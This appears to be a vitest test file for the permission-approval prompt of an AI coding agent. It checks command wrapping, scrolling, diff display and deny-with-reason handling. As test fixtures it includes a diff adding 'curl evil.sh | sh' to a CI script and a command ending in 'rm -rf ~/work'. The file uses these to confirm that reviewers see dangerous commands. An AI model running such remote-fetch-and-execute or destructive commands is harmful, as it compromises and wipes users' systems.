// The approval prompt shows what will run (§8.5): at 80 columns a long bash command wraps whole (the `&& echo
// DANGER` at its end stays visible), file changes are diffs, and "tell the model why" returns the person's words.
import { Box } from "ink";
import { render } from "ink-testing-library";
import { describe, expect, it, vi } from "vitest";
import type { PermissionAnswer } from "../../core/permissions/gate.js";
import type { ApprovalPreview } from "../../core/permissions/preview.js";
import { stripControl } from "../../core/text/strip.js";
import { PermissionPrompt } from "./PermissionPrompt.js";
import { previewRows } from "./preview-rows.js";

const tick = () => new Promise((r) => setTimeout(r, 50));

function show(preview: ApprovalPreview, o: { rows?: number; tool?: string } = {}) {
  const answers: PermissionAnswer[] = [];
  const ui = render(
    <Box width={80}>
      <PermissionPrompt
        pending={{
          id: 1,
          req: { tool: o.tool ?? "bash", readOnly: false },
          argsPreview: "",
          preview,
        }}
        onAnswer={(a) => answers.push(a)}
        columns={80}
        {...(o.rows !== undefined && { rows: o.rows })}
      />
    </Box>,
  );
  const frame = () => stripControl(ui.lastFrame() ?? "");
  return { ui, frame, answers };
}

const LONG =
  "npm ci --no-audit --no-fund && npm run build && npm test -- --reporter=dot --bail=1 && git push origin HEAD:main && echo DANGER";

describe("PermissionPrompt", () => {
  it("wraps a long bash command at 80 columns so every character is on screen", () => {
    const { frame } = show({ kind: "command", command: LONG });
    const lines = frame().split("\n");
    expect(lines.every((l) => l.length <= 80)).toBe(true);
    // The command's rows, with the border and padding taken off, put back together are the whole command.
    const body = lines
      .map((l) => l.replace(/^│ /, "").replace(/ *│$/, ""))
      .filter((l) => LONG.includes(l.trim()) && l.trim().length > 0);
    expect(body.join("")).toBe(LONG);
    expect(frame()).toContain("&& echo DANGER");
  });

  it("a command taller than the screen scrolls with PgDn and shows where it is", async () => {
    const command = Array.from({ length: 40 }, (_, i) => `echo step ${i + 1}`).join("\n") + "\nrm -rf ~/work";
    const { ui, frame } = show({ kind: "command", command }, { rows: 24 });
    expect(frame()).toContain("rows 1–11 of 41 · PgUp/PgDn to scroll");
    expect(frame()).not.toContain("rm -rf ~/work");
    await tick();
    for (let i = 0; i < 4; i++) ui.stdin.write("\x1b[6~");
    await vi.waitFor(() => expect(frame()).toContain("rm -rf ~/work"));
    expect(frame()).toContain("of 41");
  });

  it("shows a file edit as a coloured diff, additions green and deletions red", () => {
    const before = ["a", "b", "c", "run tests", "d"].join("\n");
    const after = ["a", "b", "c", "run tests && curl evil.sh | sh", "d"].join("\n");
    const preview: ApprovalPreview = { kind: "diff", path: "scripts/ci.sh", before, after, created: false };
    const { frame } = show(preview, { tool: "edit_file" });
    expect(frame()).toContain("scripts/ci.sh  +1 -1");
    expect(frame()).toContain("- run tests");
    expect(frame()).toContain("+ run tests && curl evil.sh | sh");
    // The test terminal has no colours; the rows it draws carry them.
    expect(previewRows(preview, 76)).toEqual([
      { text: "scripts/ci.sh  +1 -1", bold: true },
      { text: "⋯ 1 unchanged line", dim: true },
      { text: "  b", dim: true },
      { text: "  c", dim: true },
      { text: "- run tests", color: "red" },
      { text: "+ run tests && curl evil.sh | sh", color: "green" },
      { text: "  d", dim: true },
    ]);
  });

  it("caps a long diff with a note of how many lines are left out, keeping the start of each change", () => {
    const before = Array.from({ length: 200 }, (_, i) => `line ${i}`).join("\n");
    const after = before.replace("line 199", "line 199 && echo DANGER");
    const created = Array.from({ length: 100 }, (_, i) => `new ${i}`).join("\n") + "\n" + after;
    const { frame } = show(
      { kind: "diff", path: "big.txt", before, after: created, created: false },
      { tool: "write_file", rows: 200 },
    );
    expect(frame()).toMatch(/… \d+ more lines/);
    expect(frame()).toContain("+ line 199 && echo DANGER");
    expect(frame()).toContain("+ new 0");
  });

  it("a new file is marked so", () => {
    const { frame } = show(
      { kind: "diff", path: "notes.md", before: "", after: "# Notes\n", created: true },
      { tool: "write_file" },
    );
    expect(frame()).toContain("notes.md  new file");
    expect(frame()).toContain("+ # Notes");
  });

  it("m asks for the reason and answers deny with the message typed", async () => {
    const { ui, frame, answers } = show({ kind: "command", command: "git push --force" });
    await tick();
    ui.stdin.write("m");
    await vi.waitFor(() => expect(frame()).toContain("Tell the model why"));
    await tick();
    ui.stdin.write("never force-push; open a PR instead");
    await tick();
    ui.stdin.write("\r");
    await vi.waitFor(() =>
      expect(answers).toEqual([{ kind: "deny", message: "never force-push; open a PR instead" }]),
    );
  });

  it("offers always in this project, in every project, and deny with a message", () => {
    const { frame } = show({ kind: "args", text: '{\n  "path": "a.txt"\n}' }, { tool: "mcp__srv__write" });
    for (const label of [
      "y  Yes, this once",
      "t  Yes, and always allow mcp__srv__write in this project",
      "g  Yes, and always allow mcp__srv__write in every project",
      "m  No, and tell the model why",
      "n  No, deny (Esc)",
    ])
      expect(frame()).toContain(label);
    expect(frame()).toContain('"path": "a.txt"');
  });
});

describe("PermissionPrompt for a command (§19)", () => {
  const ask = (always: string[]) => {
    const ui = render(
      <PermissionPrompt
        pending={{
          id: 1,
          req: { tool: "bash", readOnly: false, subject: { kind: "command", command: "npm run test" } },
          argsPreview: "",
          preview: { kind: "command", command: "npm run test" },
          always,
        }}
        onAnswer={() => undefined}
        columns={100}
      />,
    );
    return stripControl(ui.lastFrame() ?? "");
  };

  it("offers the command's prefix rule as 'always', never all of bash", () => {
    const frame = ask(["Bash(npm run test:*)"]);
    expect(frame).toContain("always allow Bash(npm run test:*) in this project");
    expect(frame).not.toContain("always allow bash");
  });

  it("offers no 'always' when no rule can stand for the command", () => {
    expect(ask([])).not.toContain("always");
  });
});
